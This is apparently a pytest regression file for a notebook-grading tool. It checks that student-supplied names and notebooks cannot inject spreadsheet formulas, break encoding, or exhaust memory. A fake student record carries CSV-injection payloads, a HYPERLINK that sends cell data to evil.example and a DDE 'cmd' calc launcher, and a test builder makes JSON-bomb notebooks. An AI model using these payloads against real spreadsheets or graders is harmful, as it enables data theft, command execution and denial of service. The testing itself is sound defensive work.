"""Issue 23, items 4–7: what a class sends in must not harm what the grader writes out.

Each test measures its harm from the outside: the cells a spreadsheet would read as formulas
(item 4), the files and records a run leaves when one string cannot be encoded (item 5), and
the grader's peak memory, in a process of its own, when it reads hostile notebooks (item 6) and
compares their code for the class report (item 7), against the budget of 256 MiB over a clean
run (``VmHWM``, the peak resident size, of a process of its own).
"""

from __future__ import annotations

import csv
import json
import math
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from eulertop.cli import build_parser
from grader import cli as grader_cli
from grader import notebook_load
from grader.assignment import load_assignment
from grader.lms.export import write_export
from grader.notebook_load import SubmissionError, json_shape, read_notebook
from grader.pipeline import grade_assignment
from grader.report.code_similarity import MAX_COMPARED_CHARS
from grader.results import UNSTORABLE, AnswerResult, StudentResult, read_result, write_result
from problems.answers import Verdict
from problems.generate import generate_assignment
from problems.roster import Roster
from problems.templates import FAMILIES
from tests.grader.lms.conftest import generate, grade
from tests.grader.lms.exports import (
    MULLER,
    NUNEZ,
    Person,
    blackboard_grade_center,
    canvas_gradebook,
    csv_text,
    gradescope_roster,
    moodle_participants,
    moodle_prefix,
    notebook,
)
from tests.grader.test_pipeline import FakeExecute, FakeExecution

ROOT = Path(__file__).resolve().parents[2]
BUDGET_MIB = 256
"""The grader's memory over a clean run that no submission may exceed (issue 23)."""


# ------------------------------------------------------------------------------------------
# item 4: no cell of any CSV the project writes is a formula

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP, "CSV Injection"


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def _formulas(path: Path) -> list[str]:
    """The cells of a CSV file a spreadsheet would read as a formula."""
    return [c for c in _cells(path) if c.startswith(FORMULA_START) and not _is_number(c)]


# display names as students can set them on some LMS sites (no "/": Moodle puts names in paths)
EVIL = Person('=HYPERLINK("https:evil.example?"&A1,"your grade")', "@SUM(1+1)*cmd|' -C calc'!A0",
              "evil@uni.example", "evil", "S1099", 4599, 700199)
MINUS = Person("\t=1+1", "-2+3", "minus@uni.example", "minus", "S1098", 4598, 700198)
PEOPLE = (MULLER, NUNEZ, EVIL, MINUS)

CLASS_LISTS = {
    "canvas": ("gradebook.csv", canvas_gradebook),
    "moodle": ("participants.csv", lambda people: moodle_participants(people, identifier=True)),
    "blackboard": ("gc_export.xls", blackboard_grade_center),
    "gradescope": ("roster.csv", gradescope_roster),
}
IDENTIFIER = {"canvas": ("SIS Login ID", "login"), "moodle": ("Email address", "email"),
              "blackboard": ("Username", "login"), "gradescope": ("Email", "email")}
"""The column of each LMS import that identifies the student, and the Person field it holds."""


def _negative_answer(text: str, variable: str) -> str:
    """The notebook with ``variable`` set to ``-0.5`` (a number that must stay one)."""
    nb = json.loads(text)
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        cell["source"] = "\n".join(f"{variable} = -0.5" if line.startswith(f"{variable} =")
                                   else line for line in src.splitlines())
    return json.dumps(nb)


def _submissions(root: Path, hw: Path, lms: str) -> Path:
    """Everyone's solutions, MULLER's first answer -0.5; for Moodle as its own download (the
    display names in the folder names), for the others as ``<id>.ipynb``."""
    subs = root / "subs"
    a = load_assignment(hw)
    assert len(a.ids) == len(PEOPLE)
    for p, sid in zip(PEOPLE, a.ids, strict=True):
        text = notebook(hw, sid)
        first = a.key["students"][sid]["questions"][0]
        text = (_negative_answer(text, f"q1_{first['answers'][0]['name']}") if p is MULLER
                else text)
        path = (subs / f"{moodle_prefix(p)}_assignsubmission_file" / "hw.ipynb"
                if lms == "moodle" else subs / f"{sid}.ipynb")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return subs


@pytest.mark.parametrize("lms", list(CLASS_LISTS))
def test_no_cell_of_any_csv_is_a_formula_and_each_lms_import_still_matches_by_id(tmp_path, lms):
    name, class_list = CLASS_LISTS[lms]
    hw = generate(tmp_path, name, class_list(PEOPLE))
    report = grade(hw, _submissions(tmp_path, hw, lms))
    assert {r.status for r in report.results} == {"graded"}
    imported, _ = write_export(hw, lms)
    graded = hw / "graded"
    written = {p.name for p in graded.glob("*.csv")}
    wanted = {"grades.csv", "answers.csv", "report.csv", "report_items.csv", imported.name}
    assert wanted | ({"submissions.csv"} if lms == "moodle" else set()) <= written
    for csv_name in sorted(written):
        found = _formulas(graded / csv_name)
        assert not found, f"{csv_name}: {len(found)} cells read as formulas: {found}"
    # the names are still there, as text
    names = _cells(graded / "grades.csv")
    assert any(c[:1] == "'" and c[1:].startswith(FORMULA_START) for c in names)
    assert "-0.5" in _cells(graded / "answers.csv")  # a number stays a number
    # the LMS matches its import by the identifier column: unchanged, every score a number
    column, field = IDENTIFIER[lms]
    header, *rows = list(csv.reader(open(imported, newline="", encoding="utf-8")))
    by_id = {r[header.index(column)]: r for r in rows if r[header.index(column)]}
    assert set(by_id) == {getattr(p, field) for p in PEOPLE}
    assert all(_is_number(r[-2 if lms == "moodle" else -1]) for r in by_id.values())


def test_the_report_table_of_a_plain_roster_holds_names_as_text(tmp_path):
    rows = [["id", "name", "email"], *([p.login, p.full, p.email] for p in PEOPLE)]
    hw = generate(tmp_path, "roster.csv", csv_text(rows))
    subs = tmp_path / "subs"
    subs.mkdir()
    for p in PEOPLE:
        (subs / f"{p.login}.ipynb").write_text(notebook(hw, p.login), encoding="utf-8")
    grade(hw, subs)
    for csv_name in ("grades.csv", "report.csv"):
        cells = _cells(hw / "graded" / csv_name)
        assert not _formulas(hw / "graded" / csv_name), csv_name
        assert "'" + EVIL.full in cells  # the name kept, as text


# ------------------------------------------------------------------------------------------
# item 5: a string no file can hold does not stop the run


def test_a_record_holding_lone_surrogates_is_written_read_back_and_says_so(tmp_path):
    nasty = "x\ud800"
    verdict = Verdict("invalid", 0.0, 1.0, f"expected a number, got {nasty!s}")
    record = StudentResult(
        "bob", "graded", f"cell 2 raised KeyError: {nasty}",
        (AnswerResult("q1_x", 1, "x", [nasty, 1.0], verdict),), 0.0, 1.0, None, "sha256:k",
        {"status": "error", "message": "", "cell_errors": ["cell 2 raised KeyError: \udcff"],
         "output_truncated": False}, True, "2026-01-01T00:00:00+00:00")
    path = write_result(tmp_path, record)  # before issue 23: UnicodeEncodeError, no file
    path.read_bytes().decode("utf-8")  # strict UTF-8
    assert read_result(path) == record
    assert record.message == "cell 2 raised KeyError: x\\ud800\n" + UNSTORABLE
    assert record.answers[0].submitted == ["x\\ud800", 1.0]
    assert record.answers[0].verdict.message == "expected a number, got x\\ud800"
    assert record.execution["cell_errors"] == ["cell 2 raised KeyError: \\udcff"]
    clean = replace(record, message="fine")  # a record without them is left alone
    assert clean.message == "fine"


@pytest.mark.parametrize("where", ["submitted", "verdict"])
def test_a_surrogate_in_one_answer_alone_is_found_by_every_record_made_around_it(tmp_path,
                                                                                 where):
    """An answer is checked for lone surrogates once, when it is made; a record holding it —
    first made, or made again around it as a grade is settled — is still rebuilt storable."""
    nasty = "y\udfff"
    verdict = Verdict("invalid", 0.0, 1.0, nasty if where == "verdict" else "fine")
    answer = AnswerResult("q1_x", 1, "x", [nasty] if where == "submitted" else 1.0, verdict)
    fields = ("bob", "graded", "", (answer,), 0.0, 1.0, None, "sha256:k", {}, True,
              "2026-01-01T00:00:00+00:00")
    record = StudentResult(*fields)
    again = replace(StudentResult(*fields[:3], (), *fields[4:]), answers=(answer,))
    for n, r in enumerate((record, again)):
        assert r.message == UNSTORABLE
        assert "\\udfff" in json.dumps(r.to_dict())  # kept as its escape, as text
        folder = tmp_path / str(n)
        folder.mkdir()
        assert read_result(write_result(folder, r)) == r


class _SurrogateAnswer(FakeExecute):
    """The fake execution stage; the notebook of ``victim`` answers with a lone surrogate."""

    def __init__(self, victim: str):
        super().__init__()
        self.victim = victim

    def __call__(self, path, variables, limits):
        execution = super().__call__(path, variables, limits)
        if self.victim not in Path(path).read_text(encoding="utf-8"):
            return execution
        return FakeExecution("ok", "", {**execution.answers, variables[0]: "x\ud800"})


def _undecodable(folder: Path, raw: bytes) -> Path:
    """``folder/<raw>``: a file name that is not UTF-8 (Linux keeps the bytes as they are)."""
    return Path(os.fsdecode(os.fsencode(folder) + b"/" + raw))


def _grade_command(hw: Path, subs: Path, execute, capsys) -> tuple[int, str, str]:
    args = build_parser("grade").parse_args(["grade", str(hw), str(subs), "--jobs", "2"])
    status = grader_cli.run_grade(args, execute=execute)
    return status, *capsys.readouterr()


def test_a_run_with_a_surrogate_answer_and_a_non_utf8_file_name_writes_everything(tmp_path,
                                                                                  capsys):
    hw = generate(tmp_path, "participants.csv", moodle_participants(identifier=True))
    a = load_assignment(hw)
    subs = tmp_path / "download"
    for p, sid, raw in ((MULLER, "S1001", b"hw.ipynb"), (NUNEZ, "S1002", b"\xff.ipynb")):
        folder = subs / f"{moodle_prefix(p)}_assignsubmission_file"
        folder.mkdir(parents=True)
        _undecodable(folder, raw).write_text(notebook(hw, sid), encoding="utf-8")
    _undecodable(subs, b"\xfe.ipynb").write_text(notebook(hw, "S1003"), encoding="utf-8")
    # the terminal of capsys is strict UTF-8, like a UTF-8 locale's
    status, out, err = _grade_command(hw, subs, _SurrogateAnswer("S1001"), capsys)
    graded = hw / "graded"
    for name in ("grades.csv", "answers.csv", "submissions.csv", "report.html", "report.csv",
                 "feedback/S1001.html"):
        (graded / name).read_bytes().decode("utf-8")  # written, and strict UTF-8
    records = {sid: read_result(graded / "results" / f"{sid}.json") for sid in a.ids}
    assert None not in records.values()  # every student has a record
    assert records["S1001"].status == "graded" and UNSTORABLE in records["S1001"].message
    assert records["S1002"].points == records["S1002"].max_points > 0  # its file was graded
    assert "S1002" in _cells(graded / "submissions.csv")
    assert any("\\udcff.ipynb" in c for c in _cells(graded / "submissions.csv"))
    assert '"x\\\\ud800"' in _cells(graded / "answers.csv")
    assert status == 0 and "S1001" in out
    assert "\\udcfe.ipynb" in err  # the stray file is named, escaped
    # and the next run meets the same files without stopping either
    again, out, _ = _grade_command(hw, subs, _SurrogateAnswer("S1001"), capsys)
    assert again == 0 and f"{len(a.ids)} unchanged" in out  # S1001 too: nothing to redo
    assert read_result(graded / "results" / "S1001.json") == records["S1001"]


def test_real_kernels_a_surrogate_answer_and_a_non_utf8_file_name(tmp_path):
    """The same with ``eulertop grade`` itself: real kernels, a strict UTF-8 terminal."""
    hw, subs = tmp_path / "HW", tmp_path / "subs"
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\nalice,Alice\nbob,Bob\ncarol,Carol\n", encoding="utf-8")
    env = {**os.environ, "PYTHONIOENCODING": "utf-8:strict", "PYTHONPATH": str(ROOT)}
    eulertop = [sys.executable, "-m", "eulertop"]
    subprocess.run([*eulertop, "generate", "--roster", str(roster), "--out", str(hw),
                    "--problems", "inertia_tensor", "--seed", "3"], check=True, env=env,
                   capture_output=True)
    solution = lambda sid: json.loads((hw / "solutions" / f"{sid}.ipynb").read_text())  # noqa: E731
    bob = solution("bob")
    bob["cells"].append({"cell_type": "code", "id": "x", "metadata": {}, "outputs": [],
                         "execution_count": None, "source": "q1_I_diag = 'x\\ud800'"})
    (subs / "carol").mkdir(parents=True)
    (subs / "alice.ipynb").write_text(json.dumps(solution("alice")))
    (subs / "bob.ipynb").write_text(json.dumps(bob))
    _undecodable(subs / "carol", b"\xff.ipynb").write_text(json.dumps(solution("carol")))
    _undecodable(subs, b"\xfe.ipynb").write_text(json.dumps(solution("alice")))  # no one's
    run = subprocess.run([*eulertop, "grade", str(hw), str(subs), "--jobs", "2"], env=env,
                         capture_output=True, timeout=300)
    stdout = run.stdout.decode("utf-8")  # strict: what reached the terminal is UTF-8
    assert run.returncode == 1, run.stderr.decode("utf-8", "replace")  # the stray file
    assert "Traceback" not in run.stderr.decode("utf-8", "replace")
    graded = hw / "graded"
    records = {sid: read_result(graded / "results" / f"{sid}.json")
               for sid in ("alice", "bob", "carol")}
    assert records["alice"].points == records["alice"].max_points > 0
    assert records["carol"].points == records["carol"].max_points
    assert records["bob"].status == "graded" and UNSTORABLE in records["bob"].message
    assert records["bob"].answers[0].submitted == "x\\ud800"
    assert (graded / "grades.csv").is_file() and (graded / "report.html").is_file()
    assert "bob" in stdout and "\\udcfe.ipynb" in stdout  # the summary, to the end


# ------------------------------------------------------------------------------------------
# item 6: the grader's memory while it reads a notebook is bounded, whatever it holds

def _notebook_text(metadata: str = "{}", cells: str | None = None) -> str:
    code = {"cell_type": "code", "metadata": {}, "source": "x = 1", "outputs": [],
            "execution_count": None}
    cells = cells or json.dumps([code])
    return f'{{"nbformat": 4, "nbformat_minor": 5, "metadata": {metadata}, "cells": {cells}}}'


def _comment_lines(n: int) -> str:
    return "".join(f"# remark {i}\n" for i in range(n))


def _output(text: str, escaped: bool = False) -> str:
    """A notebook whose one code cell has ``text`` as its output (``escaped``: every character
    past ASCII as a ``\\u`` escape)."""
    return _notebook_text(cells=json.dumps([{
        "cell_type": "code", "metadata": {}, "execution_count": 1, "source": "x = 1",
        "outputs": [{"output_type": "stream", "name": "stdout", "text": text}]}],
        ensure_ascii=escaped))


MIB = 1024**2
HOSTILE = {  # name: (notebook text, what read_notebook says: a pattern); each under 20 MiB
    "1.4 million {} in the metadata (4 MiB)":
        (lambda: _notebook_text('{"x": [' + ",".join(["{}"] * 1_400_000) + "]}"),
         "its JSON holds more than 50,000 objects and arrays"),
    "19 MiB of {}":
        (lambda: _notebook_text('{"x": [' + ",".join(["{}"] * 6_500_000) + "]}"),
         "its JSON holds more than 50,000 objects and arrays"),
    "19 MiB of numbers":
        (lambda: _notebook_text('{"x": [' + ",".join(["1000"] * 3_900_000) + "]}"),
         "its JSON holds more than 500,000 values"),
    "19 MiB of short strings":
        (lambda: _notebook_text('{"x": [' + ",".join(['"ab"'] * 3_300_000) + "]}"),
         "its JSON holds more than 500,000 values"),
    "arrays nested 900 deep":
        (lambda: _notebook_text('{"x": ' + "[" * 900 + "]" * 900 + "}"),
         "its JSON holds objects and arrays nested 902 deep"),
    "a code cell of a million comment lines (16 MiB)":
        (lambda: _notebook_text(cells=json.dumps([{
            "cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
            "source": "x = 1\n" + _comment_lines(1_000_000)}])),
         r"the notebook's code cells hold [\d,]{10} characters, more than the 1,000,000 "),
}


def _most() -> str:
    """As many objects, and distinct strings, as the limits let through."""
    objects = notebook_load.MAX_JSON_CONTAINERS - 10
    strings = notebook_load.MAX_JSON_VALUES - 2 * objects - 100
    return _notebook_text(json.dumps({"x": [{}] * objects, "y": [f"s{i}" for i in range(strings)]}))


LEGAL = {  # within every limit, and as large as a submission may be
    "as many objects and distinct strings as the limits let through": _most,
    "a 19 MiB output": lambda: _output("a" * (19 * MIB)),
    # no limit of its own on the text once decoded (issue 33: 40 MiB once refused an 11 MiB
    # notebook with one emoji): the file's size bounds it, at 4 bytes a character
    "a 19 MiB output with an emoji (76 MiB as Python characters)":
        lambda: _output("a" * (19 * MIB) + "\U0001F600"),
    "the same, the emoji escaped": lambda: _output("a" * (19 * MIB) + "\U0001F600", True),
}

# The peak resident size of the process running it (MiB), counted from reset_peak(): a process
# starts with its parent's peak (fork), which pytest's would hide.
_PEAK = """
import json, sys
from pathlib import Path

def reset_peak():
    Path("/proc/self/clear_refs").write_text("5")

def peak():
    status = Path("/proc/self/status").read_text().splitlines()
    return int(next(line for line in status if line.startswith("VmHWM:")).split()[1]) / 1024
"""

# Reads a clean notebook with every reader, then the notebook argv[1] with each: prints the peak
# memory over the clean read (MiB) and what each reader made of it.
_MEASURE = _PEAK + """
from grader.check import CheckUsageError, answer_specs
from grader.notebook_load import SubmissionError, read_notebook
from grader.grade_one import claimed_student
from grader.report.code_similarity import notebook_code

def attempt(reader, path):
    try:
        reader(path)
        return "read"
    except (SubmissionError, CheckUsageError) as e:
        return str(e)

readers = {"read_notebook": read_notebook, "claimed_student": claimed_student,
           "notebook_code": notebook_code, "check": answer_specs}
for reader in readers.values():
    attempt(reader, Path(sys.argv[2]))
reset_peak()
clean = peak()
said = {name: attempt(reader, Path(sys.argv[1])) for name, reader in readers.items()}
print(json.dumps({"over_clean_mib": peak() - clean, "said": said}))
"""


def _measure(path: Path, clean: Path) -> dict:
    run = subprocess.run([sys.executable, "-c", _MEASURE, str(path), str(clean)], cwd=ROOT,
                         capture_output=True, text=True, timeout=300,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout)


@pytest.fixture(scope="module")
def clean_notebook(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("clean") / "clean.ipynb"
    path.write_text(_notebook_text(), encoding="utf-8")
    return path


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_notebook_is_refused_before_it_is_parsed(tmp_path, clean_notebook, name):
    build, said = HOSTILE[name]
    path = tmp_path / "mallory.ipynb"
    path.write_text(build(), encoding="utf-8")
    assert path.stat().st_size < 20 * MIB
    got = _measure(path, clean_notebook)
    # before issue 23: +693 MiB (4 MiB of {}), +3218 MiB (19 MiB of {}), +267 MiB (strings),
    # a RecursionError (nested)
    assert got["over_clean_mib"] < BUDGET_MIB / 4, got
    with pytest.raises(SubmissionError, match=said):
        read_notebook(path)
    assert got["said"]["check"] == f"{path}: {got['said']['read_notebook']}"
    assert got["said"]["claimed_student"] == got["said"]["notebook_code"] == "read"


@pytest.mark.parametrize("name", list(LEGAL))
def test_the_largest_legal_notebook_stays_within_the_budget(tmp_path, clean_notebook, name):
    path = tmp_path / "alice.ipynb"
    path.write_text(LEGAL[name](), encoding="utf-8")
    assert path.stat().st_size < 20 * MIB
    got = _measure(path, clean_notebook)
    assert got["over_clean_mib"] < BUDGET_MIB, got
    assert got["said"]["read_notebook"] == "read"


# Grades the class of argv[2] (the sandbox, real kernels, two at once), counting from after the
# imports: prints the grader's peak memory over that start (MiB) and every record's status.
_RUN = _PEAK + """
from grader.pipeline import grade_assignment
import grader.execute, grader.kernels.pool, grader.report.page  # imported before the count

reset_peak()
start = peak()
report = grade_assignment(Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3]), jobs=2)
print(json.dumps({"over_start_mib": peak() - start,
                  "records": {r.student_id: [r.status, r.message] for r in report.results}}))
"""


RUNS = {"every hostile notebook at once": {f"m{i}": hostile for i, hostile in
                                           enumerate(HOSTILE.values())},
        **{f"the legal one: {name}": {"l": (build, None)} for name, build in LEGAL.items()}}
"""Runs: student id -> (their notebook, what its record says: a pattern, or None if legal)."""


def _grade_run(hw: Path, subs: Path, out: Path) -> dict:
    run = subprocess.run([sys.executable, "-c", _RUN, str(hw), str(subs), str(out)], cwd=ROOT,
                         capture_output=True, text=True, timeout=600,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout)


@pytest.fixture(scope="module")
def clean_run(tmp_path_factory) -> tuple[Path, dict]:
    """An assignment for alice, bob and every student of :data:`RUNS`; its clean run (alice's
    and bob's solutions only)."""
    root = tmp_path_factory.mktemp("run")
    ids = {"alice", "bob", *(sid for students in RUNS.values() for sid in students)}
    hw = root / "HW"
    generate_assignment(Roster(("id",), tuple({"id": s} for s in sorted(ids))), hw, FAMILIES,
                        problems=["inertia_tensor"], seed=4)
    subs = root / "clean"
    subs.mkdir()
    for sid in ("alice", "bob"):  # handed in as saved again (the generated bytes are refused)
        nb = json.loads((hw / "solutions" / f"{sid}.ipynb").read_text())
        (subs / f"{sid}.ipynb").write_text(json.dumps(nb))
    return hw, _grade_run(hw, subs, root / "clean-out")


@pytest.mark.parametrize("name", list(RUNS))
def test_a_whole_run_costs_the_grader_little_more_than_a_clean_one(tmp_path, clean_run, name):
    """The whole run, as the battery measures it: the grader's peak over a clean run's."""
    hw, clean = clean_run
    subs = tmp_path / "subs"
    shutil.copytree(hw.parent / "clean", subs)
    for sid, (build, _) in RUNS[name].items():
        (subs / f"{sid}.ipynb").write_text(build(), encoding="utf-8")
    got = _grade_run(hw, subs, tmp_path / "out")
    records = got["records"]
    assert records["alice"] == clean["records"]["alice"] and records["alice"][0] == "graded"
    assert records["bob"] == clean["records"]["bob"]
    for sid, (_, said) in RUNS[name].items():
        if said is not None:
            assert records[sid][0] == "failed" and re.search(said, records[sid][1]), records[sid]
    # before issue 23: the 19 MiB of {} alone made the grader 3.2 GB larger
    over = got["over_start_mib"] - clean["over_start_mib"]
    assert over < BUDGET_MIB, (over, got)


NASTY_STRINGS = ['[{"a": 1}, ', '\\"[[', "\\\\", '\\\\"', "{,,,}", "é\U0001F600\u2028", "\\u005b"]


def _shape(value) -> tuple[int, int, int]:
    """(objects and arrays, those plus the commas between their items, depth) of a document."""
    if not isinstance(value, dict | list):
        return 0, 0, 0
    items = list(value.values() if isinstance(value, dict) else value)
    parts = [_shape(v) for v in items]
    return (1 + sum(p[0] for p in parts), 1 + max(len(items) - 1, 0) + sum(p[1] for p in parts),
            1 + max((p[2] for p in parts), default=0))


def test_strings_never_count_and_every_bracket_and_comma_outside_them_does(monkeypatch):
    """:func:`json_shape` against the parsed document's own shape, its strings full of
    brackets, commas, quotes and backslashes, in chunks small enough to cut through them."""
    document = {"cells": [{"source": s, s: [s, 1, {"k": [None, True, 2.5]}]}
                          for s in NASTY_STRINGS], "metadata": {"m": [[[[]]]]}}
    data = json.dumps(document, ensure_ascii=False).encode()
    containers, counted, depth = _shape(document)
    assert (containers, depth) == (1 + 1 + 4 * len(NASTY_STRINGS) + 1 + 4, 6)  # by hand
    monkeypatch.setattr(notebook_load, "_CHUNK", 7)
    for name, limit, said in (("MAX_JSON_CONTAINERS", containers, "objects and arrays"),
                              ("MAX_JSON_VALUES", counted, "values")):
        monkeypatch.setattr(notebook_load, name, limit - 1)
        assert json_shape(data) == f"more than {limit - 1:,} {said}"
        monkeypatch.setattr(notebook_load, name, limit)
        assert json_shape(data) is None
    monkeypatch.setattr(notebook_load, "MAX_JSON_DEPTH", depth - 1)
    assert json_shape(data) == f"objects and arrays nested {depth} deep (at most {depth - 1})"


# ------------------------------------------------------------------------------------------
# item 7: the class report's code comparison is bounded per notebook

_COMPARE = _PEAK + """
from grader.report.code_similarity import notebook_code, similar_code

honest = {p.stem: notebook_code(p) for p in map(Path, sys.argv[2:])}
similar_code(honest, [])
reset_peak()
clean = peak()
code = {**honest, "mallory": notebook_code(Path(sys.argv[1]))}
similar_code(code, [])
print(json.dumps({"over_clean_mib": peak() - clean, "cut": code["mallory"].cut}))
"""


def test_a_million_comment_lines_cost_the_report_little_and_it_says_so(tmp_path):
    code = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    honest = []
    for sid in ("alice", "bob"):
        honest.append(tmp_path / f"{sid}.ipynb")
        honest[-1].write_text(_notebook_text(cells=json.dumps(
            [{**code, "source": f"q1_x = 1  # {sid}\n" + _comment_lines(300)}])))
    mallory = tmp_path / "mallory.ipynb"
    mallory.write_text(_notebook_text(cells=json.dumps(
        [{**code, "source": "q1_x = 1\n" + _comment_lines(1_000_000)}])))
    assert mallory.stat().st_size < 20 * MIB
    run = subprocess.run([sys.executable, "-c", _COMPARE, str(mallory), *map(str, honest)],
                         cwd=ROOT, capture_output=True, text=True, timeout=300,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert run.returncode == 0, run.stderr
    got = json.loads(run.stdout)
    # before issue 23: +202 MiB and 2.8 s for this notebook's code alone
    assert got["cut"] and got["over_clean_mib"] < BUDGET_MIB / 4, got


def test_the_report_names_the_notebooks_whose_code_was_cut(tmp_path):
    hw = generate(tmp_path, "participants.csv", moodle_participants(identifier=True))
    subs = tmp_path / "subs"
    subs.mkdir()
    for sid in load_assignment(hw).ids[:3]:
        nb = json.loads(notebook(hw, sid))
        if sid == "S1002":
            nb["cells"].append({"cell_type": "code", "id": "long", "metadata": {}, "outputs": [],
                                "execution_count": None,
                                "source": _comment_lines(MAX_COMPARED_CHARS // 10)})
        (subs / f"{sid}.ipynb").write_text(json.dumps(nb))
    report = grade_assignment(hw, subs, limits="LIMITS", execute=FakeExecute(), jobs=2)
    assert {r.student_id for r in report.results if r.status == "graded"} == \
        {"S1001", "S1002", "S1003"}
    page = (hw / "graded" / "report.html").read_text(encoding="utf-8")
    assert (f"Only the first {MAX_COMPARED_CHARS:,} characters of code were compared for S1002: "
            "their notebooks hold more.") in page

